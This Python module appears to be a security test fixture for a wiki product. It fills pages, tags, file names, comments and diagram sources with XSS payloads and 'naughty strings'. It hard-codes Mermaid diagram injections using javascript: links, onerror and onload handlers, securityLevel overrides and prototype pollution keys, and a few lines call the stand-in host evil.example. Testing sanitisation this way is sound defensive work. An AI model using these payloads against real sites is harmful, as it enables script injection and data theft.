"""The strings of attackers and the strings that break programs, cut to what each field of the product takes."""

import json
import re
from collections.abc import Iterable
from dataclasses import dataclass
from pathlib import Path

from wiki.pages.titles import split_tags

A_PAGE = 400  # strings in the text of one page
TITLE, REASON, SEARCH, TAG, FILE, NAME = 250, 500, 1000, 60, 140, 150  # characters that fields take
LONG = 4000  # characters, where there is no limit
COMMENT, WORD, PASSAGE, FIELD = 9000, 1000, 160, 60
MALLORY = "<img src=x onerror=alert(1)>'\"-->"
EVE = "Eve <img src=x onerror=alert(1)>'\"--></span></strong><script>alert(1)</script>"  # renamed: they were called Eve


def strings(corpus: Path) -> list[str]:
    """Every different payload and naughty string, as they are."""
    payloads = (corpus / "xss-payloads" / "xss-payload-list.txt").read_text(encoding="utf-8").split("\n")
    naughty = json.loads((corpus / "naughty-strings" / "blns.json").read_text(encoding="utf-8"))
    return list(dict.fromkeys(text for text in [*payloads, *naughty] if text.strip()))


def packs(texts: Iterable[str], length: int, between: str = " ") -> list[str]:
    """All the texts, as few strings of at most `length` characters; a text that is longer comes in pieces.

    Without spaces at the ends: fields of one line lose those.
    """
    made: list[str] = []
    for text in texts:
        for start in range(0, len(text), length):
            piece = text[start : start + length]
            if made and len(made[-1]) + len(between) + len(piece) <= length:
                made[-1] += f"{between}{piece}"
            else:
                made.append(piece)
    return [pack.strip() for pack in made if pack.strip()]


def tags(texts: Iterable[str]) -> list[str]:
    """The texts as tags: in small letters, in pieces at the commas and where they are too long."""
    pieces = [
        tag[start : start + TAG] for text in texts for tag in split_tags(text) for start in range(0, len(tag), TAG)
    ]
    return list(dict.fromkeys(tag for piece in pieces for tag in split_tags(piece)))


def names(texts: Iterable[str]) -> list[str]:
    """The texts as names of files: in pieces at the slashes, without control characters; each name is another."""
    bare = (re.sub(r"[\x00-\x1f\x7f]", "", part).strip(". ") for text in texts for part in re.split(r"[/\\]", text))
    return [f"{pack.strip('. ')} {number}.png" for number, pack in enumerate(packs(filter(None, bare), FILE))]


@dataclass(frozen=True)
class Batch:
    """What one page is filled with: its text, its tags, its files, and the titles and reasons of pages below it."""

    place: int
    texts: list[str]

    @property
    def path(self) -> str:
        return f"/hostile/batch-{self.place}/"

    @property
    def text(self) -> str:
        """Each string in a block of its own, and within a sentence."""
        return "\n\n".join(f"{text}\n\nBefore {text} after." for text in self.texts) + "\n"

    @property
    def titles(self) -> list[str]:
        return packs(self.texts, TITLE)


def batches(texts: list[str]) -> list[Batch]:
    """All the strings, some hundred at a time."""
    return [Batch(place, texts[start : start + A_PAGE]) for place, start in enumerate(range(0, len(texts), A_PAGE), 1)]


@dataclass(frozen=True)
class Talk:
    """What is said and suggested, chosen and asked for, around a few pages."""

    texts: list[str]

    @property
    def comments(self) -> list[str]:
        """Each string in a block of its own."""
        return packs(self.texts, COMMENT, "\n\n")

    @property
    def passages(self) -> list[str]:
        """Words of the page that comments are about: as many as there are threads."""
        passages = (" ".join(text.split()) for text in packs(self.texts[::20], PASSAGE))
        return list(passages)[: len(self.comments[::2])]

    @property
    def words(self) -> list[str]:
        """Reasons of suggestions, and answers to them."""
        return packs(self.texts[::10], WORD)

    @property
    def reasons(self) -> list[str]:
        """Why many pages were changed."""
        return packs(self.texts[::40], REASON)

    @property
    def fields(self) -> list[str]:
        """Names of what a template asks for: on one line, without braces."""
        lines = (" ".join(re.sub(r"[{}]", "", text).split()) for text in self.texts[::7])
        return list({name.lower(): name for name in packs(lines, FIELD)}.values())[::45][:30]

    @property
    def diagrams(self) -> list[str]:
        """Sources of diagrams: what was written to run in them, and the strings in their labels."""
        quoted = [" ".join(text.replace('"', "#quot;").split()) for text in self.texts[::60]]
        named = [quoted[start : start + 12] for start in range(0, len(quoted), 12)]
        charts = [
            "\n".join(f'  n{at}["{label}"] -->|"{label}"| end{at}' for at, label in enumerate(few)) for few in named
        ]
        return [*DIAGRAMS, *(f"flowchart LR\n{chart}" for chart in charts)]


def flowchart(labels: list[str]) -> str:
    """A diagram with each label in a node and at an arrow."""
    lines = (f'  n{at}["{label}"] -->|"{label}"| end{at}' for at, label in enumerate(labels))
    return "\n".join(["flowchart LR", *lines])


DIAGRAMS = [
    'flowchart LR\n  a --> b\n  click a "javascript:alert(1)"\n  click b href "JaVaScRiPt:alert(1)" _blank',
    'flowchart LR\n  a --> b\n  click a call alert(1)\n  click b alert "tip"\n  click b call eval("alert(1)")',
    'flowchart LR\n  a --> b\n  click a "data:text/html,<script>alert(1)</script>"\n  click b "vbscript:alert(1)"',
    '%%{init: {"securityLevel": "loose"}}%%\n'
    'flowchart LR\n  a["<img src=x onerror=alert(1)>"]\n  click a call alert(1)',
    "%%{initialize: {'securityLevel': 'loose', 'secure': [], 'htmlLabels': true}}%%\n"
    'flowchart LR\n  a["<svg onload=alert(1)><script>alert(1)</script>"]',
    '---\nconfig:\n  securityLevel: loose\n  secure: []\n---\nflowchart LR\n  a["<iframe src=javascript:alert(1)>"]',
    '%%{init: {"themeCSS": "</style><img src=x onerror=alert(1)>"}}%%\nflowchart LR\n  a --> b',
    '%%{init: {"themeVariables": {"primaryColor": "red}</style><script>alert(1)</script>"}}}%%\n'
    "flowchart LR\n  a --> b",
    '%%{init: {"fontFamily": "x;}@import url(//evil.example/a.css);{"}}%%\nflowchart LR\n  a --> b',
    '%%{init: {"dompurifyConfig": {"ADD_TAGS": ["iframe"], "ADD_ATTR": ["onload"]}}}%%\n'
    'flowchart LR\n  a["<iframe onload=alert(1)>"]',
    '%%{init: {"__proto__": {"securityLevel": "loose"}, "constructor": {"prototype": {"x": 1}}}}%%\nflowchart LR\n  a',
    'flowchart LR\n  a["<a href=javascript:alert(1)>x</a>"] --> '
    'b["<form action=//evil.example><input autofocus onfocus=alert(1)></form>"]',
    "flowchart LR\n  a --> b\n  style a fill:url(//evil.example/a),background:url(javascript:alert(1))\n"
    "  classDef c fill:red;}</style><script>alert(1)</script>\n  class b c",
    "sequenceDiagram\n  participant A as <img src=x onerror=alert(1)>\n  A->>B: <script>alert(1)</script>\n"
    '  link A: x @ javascript:alert(1)\n  links A: {"x": "javascript:alert(1)"}\n  Note over A: <svg onload=alert(1)>',
    'classDiagram\n  class A["<img src=x onerror=alert(1)>"]\n  A : +run(<script>alert(1)</script>)\n'
    '  click A href "javascript:alert(1)"\n  callback A "alert" "<b onclick=alert(1)>"',
    "stateDiagram-v2\n  s1 : <img src=x onerror=alert(1)>\n  s1 --> s2 : <script>alert(1)</script>\n"
    '  click s1 "javascript:alert(1)" "x"',
    "gantt\n  title <img src=x onerror=alert(1)>\n  section <script>alert(1)</script>\n"
    '  Work : a1, 2026-01-01, 3d\n  click a1 href "javascript:alert(1)"\n  click a1 call alert(1)',
    'pie title <img src=x onerror=alert(1)>\n  "<script>alert(1)</script>" : 3',
    'erDiagram\n  "<img src=x onerror=alert(1)>" ||--o{ B : "<script>alert(1)</script>"',
    'mindmap\n  root("<img src=x onerror=alert(1)>")\n    a["`<script>alert(1)</script>`"]',
    "journey\n  title <img src=x onerror=alert(1)>\n  section <script>alert(1)</script>\n"
    "    Work: 5: <svg onload=alert(1)>",
    'gitGraph\n  commit id: "<img src=x onerror=alert(1)>" tag: "<script>alert(1)</script>"',
    'flowchart LR\n  a["$$\\href{javascript:alert(1)}{x}$$"] --> b["`**x** <img src=x onerror=alert(1)>`"]',
    "<img src=x onerror=alert(1)>",
]
